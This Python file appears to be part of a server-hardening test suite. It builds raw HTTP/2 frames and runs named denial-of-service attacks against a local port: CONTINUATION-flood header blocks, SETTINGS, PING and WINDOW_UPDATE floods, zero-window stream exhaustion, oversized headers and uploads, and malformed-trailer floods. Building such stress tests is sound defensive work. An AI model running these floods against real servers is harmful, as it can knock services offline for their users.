"""Attackers for hostile.py: raw HTTP/2 frames, as fast as the loopback device takes them.

    python3 hostile_attacks.py PORT [--tls]

Takes lines from its standard input: `prepare NAME` makes the frames of an attack and answers "ready", `run SECONDS` attacks
for so long and answers what became of it, as JSON. So frames are made before the attack. They are sent in blocks, so that
the server and not Python is what limits it. An attacker whose connection the server ends comes back after 10 ms, where the
attack goes on so: it attacks what is inside a connection, not the making of one.

It reads what the server sends, and acknowledges SETTINGS and PING unless the attack is not to.
"""

import json
import resource
import select
import struct
import sys
import time

from hostile_frames import (
    ACK,
    COME_BACK_S,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    LONGEST_FRAME,
    PADDED,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Attacker,
    Peer,
    for_streams,
    frame,
    literal,
    message,
    repeated,
    request,
)

HELLO = message(b"\x0a\x03you")
BAD_METADATA = literal(b"x-bin", b"!")


class Upload(Peer):
    """Sends one message as fast as the server gives room for it."""

    def __init__(self, attacker, tls, announced, at_most):
        super().__init__(attacker, [])
        self.left, self.room, self.room_of_stream = at_most, 65535, 65535
        self.chunk = bytes(LONGEST_FRAME - 9)
        start = frame(HEADERS, END_HEADERS, 1, request(tls, b"SayHello"))
        start += frame(DATA, 0, 1, b"\0" + struct.pack("!I", announced))
        self.out.append(memoryview(start))
        self.room -= 5
        self.room_of_stream -= 5
        self.pour()

    def took(self, kind, flags, whole):
        if kind == WINDOW_UPDATE:
            stream, more = struct.unpack_from("!II", whole, 5)
            if stream == 0:
                self.room += more
            else:
                self.room_of_stream += more
        elif kind == SETTINGS:
            return
        elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
            self.left = 0
        self.pour()

    def turn(self, events):
        self.pour()
        super().turn(events)

    def pour(self):
        while len(self.out) < 64 and self.left > 0:
            length = min(len(self.chunk), self.room, self.room_of_stream, self.left)
            if length <= 0:
                break
            self.out.append(memoryview(frame(DATA, 0, 1, self.chunk[:length])))
            self.room -= length
            self.room_of_stream -= length
            self.left -= length

    def take_frames(self):
        # The settings of the server may give more room to streams.
        received = self.received
        if len(received) >= 9 and received[3] == SETTINGS and not received[4] & ACK:
            end = 9 + int.from_bytes(received[:3], "big")
            for name, value in struct.iter_unpack("!HI", bytes(received[9:end])):
                if name == INITIAL_WINDOW_SIZE:
                    self.room_of_stream += value - 65535
        super().take_frames()


def flood(first, then=None, count=1, pause_s=COME_BACK_S, **options):
    """An attack whose connections all send the same."""
    return lambda attacker: attacker.run(count, lambda: Peer(attacker, first, then, **options), pause_s)


def endless_block(tls, fields):
    """A header block whose end never comes. No other frame may be within it, so the settings are acknowledged before."""
    start = frame(SETTINGS, ACK, 0) + frame(HEADERS, 0, 1, request(tls, b"SayHello"))
    return flood([start], repeated(frame(CONTINUATION, 0, 1, fields)), acknowledges=False)


def silent_calls(tls, count):
    return for_streams([(HEADERS, END_HEADERS, request(tls, b"GreetEverybody"))], count)


def untaken_replies(tls, count):
    block, wish = request(tls, b"SayManyHellos"), message(b"\x0a\x03you\x10\xe8\x07")
    return for_streams([(HEADERS, END_HEADERS, block), (DATA, END_STREAM, wish)], count)


def calls(tls, count, extra=b""):
    return for_streams([(HEADERS, END_HEADERS, request(tls, b"SayHello", extra)), (DATA, END_STREAM, HELLO)], count)


NO_WINDOW = struct.pack("!HI", INITIAL_WINDOW_SIZE, 0)
# How many calls a server allows on one connection by default: with more it ends the attack early.
MOST_CALLS = 250


def bad_trailers(tls):
    make = [
        (HEADERS, END_HEADERS, request(tls, b"SayHello")),
        (DATA, 0, HELLO),
        (HEADERS, END_HEADERS | END_STREAM, BAD_METADATA),
    ]
    return flood(for_streams(make, 100_000))


def long_strings(tls):
    """A header of 15 MiB in each of 10 connections, of which the end of the block never comes."""
    length = 15 << 20
    # A literal with a name of one letter, whose value has this length: an integer with a prefix of 7 bits.
    rest, encoded = length - 127, bytearray(b"\x7f")
    while rest >= 128:
        encoded.append(rest & 127 | 128)
        rest >>= 7
    encoded.append(rest)
    start = frame(HEADERS, 0, 1, request(tls, b"SayHello") + b"\x00\x01x" + encoded)
    more = frame(CONTINUATION, 0, 1, b"v" * (LONGEST_FRAME - 1))
    count = length // LONGEST_FRAME - 1
    return flood([start, more * count], count=10, pause_s=None, acknowledges=False)


def unknown_settings():
    return repeated(frame(SETTINGS, 0, 0, struct.pack("!HI", 0xF000, 1)))


# By name: what makes the attack. `tls` says which scheme its requests have.
ATTACKS = {
    "metadata": lambda tls: flood(
        for_streams([(HEADERS, END_HEADERS | END_STREAM, request(tls, b"SayHello", BAD_METADATA))], 100_000)
    ),
    "literals": lambda tls: endless_block(tls, literal(b"a", b"b") * (LONGEST_FRAME // 5)),
    # `accept-encoding: gzip, deflate`, of the static table.
    "indexed": lambda tls: endless_block(tls, b"\x90" * LONGEST_FRAME),
    "empty-data": lambda tls: flood(
        [frame(HEADERS, END_HEADERS, 1, request(tls, b"GreetEverybody"))], repeated(frame(DATA, 0, 1))
    ),
    "settings": lambda tls: flood([], unknown_settings()),
    "window": lambda tls: flood([], repeated(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"))),
    "priority": lambda tls: flood([], repeated(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"))),
    "ping": lambda tls: flood([], repeated(frame(PING, 0, 0, b"12345678"))),
    "silent": lambda tls: flood(silent_calls(tls, 100), pause_s=None),
    "untaken-streams": lambda tls: flood(untaken_replies(tls, 100), pause_s=None, settings=NO_WINDOW),
    "untaken-answers": lambda tls: flood(calls(tls, MOST_CALLS), count=2, pause_s=None, settings=NO_WINDOW),
    "early-streams": lambda tls: flood(
        for_streams([(HEADERS, END_HEADERS, request(tls, b"GreetEverybody"))], 20_000), acknowledges=False
    ),
    "early-strings": long_strings,
    "headers-alone": lambda tls: flood(
        for_streams([(HEADERS, END_HEADERS, request(tls, b"SayHello"))], MOST_CALLS), count=64, pause_s=None
    ),
    "message": lambda tls: lambda attacker: attacker.run(
        1, lambda: Upload(attacker, tls, 0xFFFF_FFFF, 512 << 20), COME_BACK_S
    ),
    "idle": lambda tls: flood([], count=600, pause_s=0.25),
    "trailers": bad_trailers,
    "padding": lambda tls: flood(
        for_streams(
            [(HEADERS, END_HEADERS, request(tls, b"SayHello")), (DATA, PADDED | END_STREAM, b"\x04" + HELLO + b"\0" * 4)],
            100_000,
        )
    ),
    "no-path": lambda tls: flood(
        for_streams([(HEADERS, END_HEADERS | END_STREAM, request(tls, b"", path=False))], 100_000)
    ),
}


class Quiet(Peer):
    """A client with streams on which it has said something, and says no more until it ends them."""

    STREAMS = 16

    def __init__(self, attacker, tls):
        start = [(HEADERS, END_HEADERS, request(tls, b"GreetEverybody")), (DATA, 0, HELLO)]
        super().__init__(attacker, for_streams(start, self.STREAMS))
        self.failed, self.ended = 0, 0
        attacker.quiet.append(self)

    def took(self, kind, flags, whole):
        if kind == DATA:
            self.ended += 1
        elif kind == RST_STREAM:
            self.failed += 1

    def end(self):
        for stream in range(1, 2 * self.STREAMS, 2):
            self.out.append(memoryview(frame(DATA, END_STREAM, stream)))


def stay_quiet(tls):
    """50 clients with 16 streams each, which all end well: not an attack."""

    def run(attacker):
        attacker.quiet = []
        seconds, peers = attacker.seconds, attacker.quiet
        poll = select.epoll()
        for _ in range(50):
            peer = Quiet(attacker, tls)
            poll.register(peer.fileno(), select.EPOLLIN | select.EPOLLOUT)
        by_number = {peer.fileno(): peer for peer in peers}
        end, has_ended = time.monotonic() + seconds, False
        give_up = end + 3
        while time.monotonic() < give_up and any(it.ended + it.failed < it.STREAMS and not it.is_over for it in peers):
            if not has_ended and time.monotonic() > end:
                has_ended = True
                for peer in peers:
                    peer.end()
                    if not peer.is_over:
                        poll.modify(peer.fileno(), select.EPOLLIN | select.EPOLLOUT)
            for number, events in poll.poll(0.01):
                peer = by_number[number]
                peer.turn(events)
                if not peer.is_over:
                    poll.modify(number, select.EPOLLIN | (select.EPOLLOUT if peer.wants_to_write else 0))
        attacker.said["streams"] = 50 * Quiet.STREAMS
        attacker.said["landed"] = sum(it.ended for it in peers)
        for peer in peers:
            peer.close()

    return run


ATTACKS["quiet"] = stay_quiet


def burn(attacker):
    """Takes a core, and leaves the server alone."""
    give_up = time.monotonic() + attacker.seconds
    while time.monotonic() < give_up:
        pass


ATTACKS["burn"] = lambda tls: burn


def main():
    tls = "--tls" in sys.argv[2:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attacker, attack = Attacker(int(sys.argv[1]), tls), None
    for line in sys.stdin:
        command, word = line.split()
        if command == "prepare":
            attack = ATTACKS[word](tls)
            print("ready", flush=True)
        else:
            said = attacker.attack(attack, float(word))
            attack = None
            print(json.dumps(said), flush=True)


if __name__ == "__main__":
    main()
